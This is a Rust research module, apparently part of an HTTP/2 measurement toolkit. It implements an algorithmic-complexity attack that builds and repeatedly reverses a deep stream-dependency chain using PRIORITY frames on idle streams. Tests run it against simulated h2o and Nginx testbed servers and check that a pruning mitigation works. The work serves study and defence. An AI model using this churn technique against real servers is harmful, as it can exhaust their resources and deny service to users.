//! Priority-tree churn (§VI, third concern): "malicious clients may
//! exploit this mechanism to launch algorithmic complexity attacks (e.g.,
//! force the server to frequently reconstruct the dependency tree)".
//!
//! The attacker builds a deep dependency chain with PRIORITY frames (no
//! requests at all — PRIORITY is legal on idle streams) and then keeps
//! reversing it with exclusive reprioritizations. Every frame costs the
//! server a subtree move; none of the streams will ever carry a request.

use h2scope::{ProbeConn, Target};
use h2wire::{Frame, PriorityFrame, PrioritySpec, Settings, StreamId};

/// Result of one churn engagement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ChurnReport {
    /// PRIORITY frames the attacker sent.
    pub frames_sent: u64,
    /// Octets the attacker transmitted.
    pub attacker_octets: u64,
    /// Nodes retained in the victim's dependency tree afterwards.
    pub tree_nodes: usize,
    /// Nodes remaining after the victim applies the pruning mitigation.
    pub tree_nodes_after_prune: usize,
}

/// Builds a chain of `depth` idle streams and reverses it `rounds` times
/// using exclusive reprioritization.
pub fn attack(target: &Target, depth: u32, rounds: u32) -> ChurnReport {
    let mut conn = ProbeConn::establish(target, Settings::new(), 0xc4u64);
    conn.exchange();
    let mut frames_sent = 0u64;
    let mut attacker_octets = 24 + 9 + 6u64;

    let dep = |stream: u32, parent: u32, exclusive: bool| {
        Frame::Priority(PriorityFrame {
            stream_id: StreamId::new(stream),
            spec: PrioritySpec {
                exclusive,
                dependency: StreamId::new(parent),
                weight: 256,
            },
        })
    };

    // Build the chain 1 <- 3 <- 5 <- ... on idle streams.
    let ids: Vec<u32> = (0..depth).map(|k| 2 * k + 1).collect();
    let mut batch = Vec::new();
    for w in ids.windows(2) {
        batch.push(dep(w[1], w[0], false));
    }
    frames_sent = frames_sent.saturating_add(batch.len() as u64);
    attacker_octets = attacker_octets.saturating_add((batch.len() as u64).saturating_mul(14));
    conn.send_all(&batch);
    conn.exchange();

    // Each round: yank the chain tail to the root exclusively (adopting
    // everything), then push it back under the old head — maximal subtree
    // movement per frame.
    let tail = *ids.last().expect("nonempty chain");
    let head = ids[0];
    for _ in 0..rounds {
        let storm = vec![dep(tail, 0, true), dep(tail, head, false)];
        frames_sent = frames_sent.saturating_add(storm.len() as u64);
        attacker_octets = attacker_octets.saturating_add((storm.len() as u64).saturating_mul(14));
        conn.send_all(&storm);
        conn.exchange();
    }

    let tree = conn.server().core().priority();
    let tree_nodes = tree.len();
    // The mitigation: the victim prunes streams that are not active (all
    // of them — none ever carried a request).
    let mut pruned = tree.clone();
    pruned.prune(|_| false);
    ChurnReport {
        frames_sent,
        attacker_octets,
        tree_nodes,
        tree_nodes_after_prune: pruned.len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use h2server::{ServerProfile, SiteSpec};

    fn target() -> Target {
        Target::testbed(ServerProfile::h2o(), SiteSpec::benchmark())
    }

    #[test]
    fn idle_priority_frames_grow_the_tree_for_free() {
        let report = attack(&target(), 64, 10);
        assert_eq!(
            report.tree_nodes, 64,
            "one node per idle stream: {report:?}"
        );
        assert!(report.attacker_octets < 2_500, "{report:?}");
    }

    #[test]
    fn pruning_reclaims_everything() {
        let report = attack(&target(), 128, 5);
        assert_eq!(report.tree_nodes, 128);
        assert_eq!(report.tree_nodes_after_prune, 0);
    }

    #[test]
    fn server_survives_a_large_storm_consistently() {
        // 256-deep chain reversed 50 times: the engine must stay sound.
        let report = attack(&target(), 256, 50);
        assert_eq!(report.frames_sent as usize, 255 + 100);
        assert_eq!(report.tree_nodes, 256);
    }

    #[test]
    fn priority_ignoring_servers_still_track_the_tree_state() {
        // Even FCFS servers (Nginx) maintain the tree in our engine; the
        // attack surface is the state, not the scheduler.
        let target = Target::testbed(ServerProfile::nginx(), SiteSpec::benchmark());
        let report = attack(&target, 32, 3);
        assert_eq!(report.tree_nodes, 32);
    }
}
